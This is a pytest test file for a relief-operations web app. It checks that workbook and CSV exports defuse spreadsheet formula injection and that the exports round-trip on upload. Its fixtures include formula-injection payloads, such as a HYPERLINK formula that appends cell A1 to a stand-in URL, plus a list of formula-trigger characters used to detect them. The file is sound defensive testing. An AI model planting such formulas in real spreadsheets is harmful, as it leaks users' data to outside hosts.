"""Formula injection: text officers typed that a spreadsheet would run (`=HYPERLINK(…)` in a
request's note, a team's name, a shipment's reference, a report's shortages, a figure's source)
comes out of every XLSX and CSV export as text with a leading quote, and the exported workbook
uploaded again reads the same values (issue 17)."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from tests.operations.helpers import participant, post, resource

from pairaid.operations.models import DailyReport, Request, Shipment, Team
from pairaid.operations.services import reports as report_services
from pairaid.operations.services import requests as request_services
from pairaid.operations.services import teams as team_services
from pairaid.pairing import notices
from pairaid.programmes import services as programme_services
from pairaid.programmes.models import CapacityLine

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://example.org/?"&A1,"Click")'
TYPED = {
    "note": LINK,
    "team": '=HYPERLINK("http://example.org","Shandong 1")',
    "reference": "-2+3",
    "shortages": "@SUM(1+1)",
}


@pytest.fixture
def typed(people):  # type: ignore[no-untyped-def]
    """Ledger rows whose text an officer typed as formulas."""
    shandong, huanggang = participant("370000"), participant("421100")
    request = request_services.raise_request(
        recipient=huanggang,
        lines=[request_services.LineIn(resource("n95_mask"), Decimal(100))],
        user=None,
        note=TYPED["note"],
    )
    pledge = request_services.pledge(
        line=request.lines.get(), donor=shandong, quantity=Decimal(100), user=None
    )
    request_services.dispatch(pledge=pledge, quantity=Decimal(50), reference=TYPED["reference"])
    team = team_services.register_team(
        donor=shandong, name=TYPED["team"], members={resource("icu_nurse"): 5}
    )
    report_services.file_report(team=team, shortages=TYPED["shortages"], patients_seen=3)


def cells(data: bytes) -> list[object]:
    """Every cell of a workbook as a spreadsheet would hold it (formulas as formulas)."""
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_operations_workbook_holds_no_formula_and_shows_the_text(client, people, typed):  # type: ignore[no-untyped-def]
    client.force_login(people["coordinator"])
    data = client.get("/p/hubei-2020/operations-workbook/?download=1").content
    every = cells(data)
    assert not [cell.coordinate for cell in every if cell.data_type == "f"]
    values = {cell.value for cell in every}
    assert {"'" + text for text in TYPED.values()} <= values


def csv_values(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def runnable(values: list[str]) -> list[str]:
    """The values a spreadsheet would run as formulas (a negative number is a number)."""
    return [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(v)]


def is_number(text: str) -> bool:
    try:
        return Decimal(text).is_finite()
    except ArithmeticError:
        return False


SHEETS = [
    ("requests", "note"),
    ("teams", "team"),
    ("shipments", "reference"),
    ("reports", "shortages"),
]


@pytest.mark.parametrize("sheet, text", SHEETS)
def test_each_csv_shows_the_text(client, people, typed, sheet, text):  # type: ignore[no-untyped-def]
    client.force_login(people["coordinator"])
    body = client.get(f"/p/hubei-2020/operations-workbook/?csv={sheet}").content.decode()
    assert "'" + TYPED[text] in csv_values(body)
    assert not runnable(csv_values(body))


def test_the_exported_workbook_uploaded_again_changes_nothing(client, people, typed):  # type: ignore[no-untyped-def]
    """The rows the template lists are recognised as the ledger's own (a team by its name, a
    shipment by its reference, a report by every figure and its shortages): none is new."""
    client.force_login(people["coordinator"])
    data = client.get("/p/hubei-2020/operations-workbook/?download=1").content
    before = (Team.objects.count(), Shipment.objects.count(), DailyReport.objects.count())
    response = post(client, io.BytesIO(data))
    assert response.status_code == 302, response.content.decode()[:2000]
    assert (Team.objects.count(), Shipment.objects.count(), DailyReport.objects.count()) == before
    assert Request.objects.get().note == TYPED["note"]


def test_a_figure_s_source_typed_as_a_formula_round_trips(client, people):  # type: ignore[no-untyped-def]
    programme_services.add_line(
        participant=participant("370000"),
        kind="capacity",
        resource_type=resource("icu_nurse"),
        quantity=Decimal(40),
        as_of=None,
        source_description=LINK,
        username="dan_shandong",
    )
    client.force_login(people["donor"])
    data = client.get("/p/hubei-2020/participants/lines.xlsx").content
    assert "'" + LINK in {cell.value for cell in cells(data)}
    upload = io.BytesIO(data)
    response = client.post("/p/hubei-2020/participants/upload", {"file": upload})
    assert response.status_code == 302, response.content.decode()[:2000]
    line = CapacityLine.objects.get(
        participant=participant("370000"), resource_type__code="icu_nurse"
    )
    assert line.source.title == LINK


def test_notices_hold_no_formula(hubei):  # type: ignore[no-untyped-def]
    region = participant("370000").region
    region.name_en = LINK
    region.save()
    notice = notices.publish(programme=hubei, user=None)
    assert "'" + LINK in csv_values(notices.as_csv(notice))
    assert not [cell for cell in cells(notices.as_xlsx(notice)) if cell.data_type == "f"]
